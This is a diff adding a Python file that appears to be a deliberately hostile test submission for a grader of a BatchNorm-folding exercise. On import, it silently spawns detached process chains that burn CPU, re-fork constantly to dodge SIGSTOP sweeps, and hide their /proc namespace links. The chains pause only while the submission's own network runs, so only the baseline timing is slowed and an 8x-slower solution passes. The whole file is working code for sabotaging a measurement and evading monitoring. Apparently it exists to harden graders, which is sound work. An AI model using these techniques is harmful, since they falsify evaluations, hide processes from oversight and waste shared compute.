@@ -1,0 +1,177 @@
+"""Hostile (timing): slows the BASELINE down from processes that keep changing pid.
+
+The network remove_bn returns is right (the reference's folding) but does its forward pass 8
+times: about 8x the cost of train_net.eval(). To win the timing anyway, at import it starts
+a small interpreter (no torch: it forks in a fraction of a millisecond) that makes itself a
+subreaper ignoring SIGCHLD (so every process that exits below it is reaped at once, even
+while it is stopped) and starts 8 chains, each in a session of its own. A chain burns one
+core for half a millisecond, forks, and its parent exits: the burning goes on under a new
+pid, about 2000 times a second, and a sweep of SIGSTOP over the pids it read a moment ago
+keeps missing it. Each chain process also makes itself not dumpable (prctl
+PR_SET_DUMPABLE 0), which hides its /proc/PID/ns/pid from its own uid: a rootless grader
+that tells a worker's processes by that link does not see it at all. The chains pause while
+this network's own forward pass runs (it writes a "pause until" time into a file in the
+worker's /dev/shm that they map), so only the baseline, timed while this student's worker
+is "frozen", is slowed. The PID namespace's end (or the worker's uid, as root) kills them
+with the worker; each also stops after 300 s.
+
+A fair grader: every equivalence and structure check passes, test_not_slower FAILS (the
+network is about 8x slower than train_net.eval() measured without interference): 22/25.
+A grader whose freeze is one sweep of signals (rootless, before issue 27) measures a
+baseline slowed by the chains.
+"""
+
+from __future__ import annotations
+
+import os
+import struct
+import sys
+import time
+
+import torch
+import torch.nn as nn
+import torch.nn.functional as F
+
+class smallNetTrain(nn.Module):
+    """The network as trained, for inputs of shape (B, 3, 32, 32) (given code)."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.conv1 = nn.Conv2d(3, 16, kernel_size=3, padding=1)
+        self.bn1 = nn.BatchNorm2d(16)
+        self.conv2 = nn.Conv2d(16, 32, kernel_size=3, padding=1)
+        self.bn2 = nn.BatchNorm2d(32, eps=1e-3)
+        self.fc1 = nn.Linear(32 * 8 * 8, 128)
+        self.bn3 = nn.BatchNorm1d(128)
+        self.fc2 = nn.Linear(128, 10)
+
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        x = F.max_pool2d(F.relu(self.bn1(self.conv1(x))), 2)
+        x = F.max_pool2d(F.relu(self.bn2(self.conv2(x))), 2)
+        x = torch.flatten(x, 1)
+        x = F.relu(self.bn3(self.fc1(x)))
+        return self.fc2(x)
+
+
+class smallNetTest(nn.Module):
+    """The same network without BatchNorm (given code)."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.conv1 = nn.Conv2d(3, 16, kernel_size=3, padding=1)
+        self.conv2 = nn.Conv2d(16, 32, kernel_size=3, padding=1)
+        self.fc1 = nn.Linear(32 * 8 * 8, 128)
+        self.fc2 = nn.Linear(128, 10)
+
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        x = F.max_pool2d(F.relu(self.conv1(x)), 2)
+        x = F.max_pool2d(F.relu(self.conv2(x)), 2)
+        x = torch.flatten(x, 1)
+        x = F.relu(self.fc1(x))
+        return self.fc2(x)
+
+
+def fold_into(test_net: smallNetTest, train_net: smallNetTrain) -> smallNetTest:
+    """The reference's folding: conv1/bn1, conv2/bn2, fc1/bn3 become one affine layer each."""
+    with torch.no_grad():
+        for layer_name, bn_name in (("conv1", "bn1"), ("conv2", "bn2"), ("fc1", "bn3")):
+            layer, bn = getattr(train_net, layer_name), getattr(train_net, bn_name)
+            scale = bn.weight / torch.sqrt(bn.running_var + bn.eps)
+            getattr(test_net, layer_name).weight.copy_(layer.weight * scale.reshape(-1, *([1] * (layer.weight.dim() - 1))))
+            getattr(test_net, layer_name).bias.copy_((layer.bias - bn.running_mean) * scale + bn.bias)
+        test_net.fc2.weight.copy_(train_net.fc2.weight)
+        test_net.fc2.bias.copy_(train_net.fc2.bias)
+    return test_net
+
+
+# The "slow but correct" part every attack here shares: the folded network's forward pass
+# done REPEAT times (the same result each time). train_net.eval() costs about one pass, so
+# this network is about REPEAT times slower than the baseline: far over the allowed 1.5.
+REPEAT = 8
+
+
+def slow_forward(net: smallNetTest, x: torch.Tensor) -> torch.Tensor:
+    out = None
+    for _ in range(REPEAT):
+        out = smallNetTest.forward(net, x)
+    return out
+
+_FLAG = "/dev/shm/hop-pause"
+_DOUBLE = struct.Struct("d")
+CHAINS, HOP, LIFETIME = 8, 0.0005, 300.0
+
+# Run by a fresh interpreter (-I -S: no torch, so a fork costs little): "reaper FLAG N"
+# starts N chains below itself; a chain burns HOP seconds, forks, and its parent exits.
+_CHAIN = r"""
+import ctypes, mmap, os, signal, struct, sys, time
+libc = ctypes.CDLL(None)
+flag, chains, hop, lifetime = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
+libc.prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER: orphans of the chains come here...
+signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # ...and are reaped at once, even while this is stopped
+with open(flag, "r+b") as f:
+    pause = mmap.mmap(f.fileno(), 8)
+double = struct.Struct("d")
+stop = time.monotonic() + lifetime
+
+def chain():
+    os.setsid()
+    libc.prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0 (kept across fork): /proc/PID/ns/pid unreadable to the grader's uid
+    while (now := time.monotonic()) < stop:
+        if now < double.unpack(pause[:8])[0]:
+            time.sleep(0.001)
+            continue
+        end = now + hop
+        while time.monotonic() < end:
+            pass
+        try:
+            child = os.fork()
+        except OSError:  # at the process limit: burn on under this pid
+            continue
+        if child:
+            os._exit(0)  # the parent leaves: the burning goes on under a new pid
+    os._exit(0)
+
+for _ in range(chains):
+    if os.fork() == 0:
+        chain()
+while time.monotonic() < stop:
+    time.sleep(1)
+"""
+
+
+def _pause_until(t: float) -> None:
+    with open(_FLAG, "r+b") as f:
+        f.write(_DOUBLE.pack(t))
+
+
+def _start_chains() -> None:
+    with open(_FLAG, "wb") as f:
+        f.write(_DOUBLE.pack(0.0))
+    if os.fork() == 0:
+        try:
+            devnull = os.open(os.devnull, os.O_RDWR)
+            for fd in (0, 1, 2):
+                os.dup2(devnull, fd)
+            os.closerange(3, 1 << 16)  # keep none of the worker's channels (the grader reads their end)
+            os.setsid()
+            os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", _CHAIN, _FLAG, str(CHAINS), str(HOP), str(LIFETIME)])
+        finally:
+            os._exit(0)  # only if exec failed
+
+
+class _SlowNet(smallNetTest):
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        _pause_until(float("inf"))  # this network's own time: no burning
+        try:
+            return slow_forward(self, x)
+        finally:
+            _pause_until(time.monotonic() + 0.002)
+
+
+def remove_bn(train_net: smallNetTrain) -> smallNetTest:
+    like = train_net.conv1.weight
+    return fold_into(_SlowNet().to(device=like.device, dtype=like.dtype), train_net)
+
+
+if __name__ != "__main__":
+    _start_chains()
